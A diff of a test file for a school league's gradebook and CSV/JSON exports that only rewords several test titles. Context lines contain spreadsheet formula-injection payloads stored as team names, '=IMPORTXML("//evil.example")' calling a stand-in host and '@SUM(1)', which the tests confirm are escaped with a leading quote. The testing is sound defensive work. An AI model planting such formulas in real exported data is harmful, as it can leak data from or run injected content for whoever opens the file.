@@ -140,7 +140,7 @@ describe('the gradebook of a season', () => {
     });
   });
 
-  it('runs nothing that stands in a name', async () => {
+  it('runs nothing that is in a name', async () => {
     await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, { teamName: '=IMPORTXML("//evil.example")' });
     expect((await gradebook())[0]?.['Team name']).toBe('\'=IMPORTXML("//evil.example")');
   });
@@ -236,7 +236,7 @@ describe('the grid of a week', () => {
     });
   });
 
-  it('runs nothing that stands in a name, and is the own teacher’s alone', async () => {
+  it('runs nothing that is in a name, and is the own teacher’s alone', async () => {
     await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, { teamName: '@SUM(1)' });
     const { rows } = await exportWeekGrid(test.teacher, LEAGUE, PLAIN);
     expect(await csvText(rows)).toContain("'@SUM(1)");
@@ -277,7 +277,7 @@ describe('everything about one student', () => {
     expect(missing).toEqual([]);
   });
 
-  it('holds a document of each of them, and none of anybody else', async () => {
+  it('holds a document of each of them, and none of anyone else', async () => {
     const own = STUDENT_RECORDS.filter(({ person }) => person !== 'id');
     for (const [index, { collection, person }] of own.entries()) {
       for (const [who, id] of [
@@ -348,7 +348,7 @@ describe('everything about a league', () => {
     return { text, ...(JSON.parse(text) as { league: Record<string, unknown>; students: Exported[] }) };
   }
 
-  it('has the league and each of its students as the export of one has it, nobody else, and no key to the league', async () => {
+  it('has the league and each of its students as the export of one has it, no one else, and no key to the league', async () => {
     await addStudent(test, 'Ada');
     await tryStep(test.kim, 'QB', '1 1/2');
     const { text, league, students } = await exported();
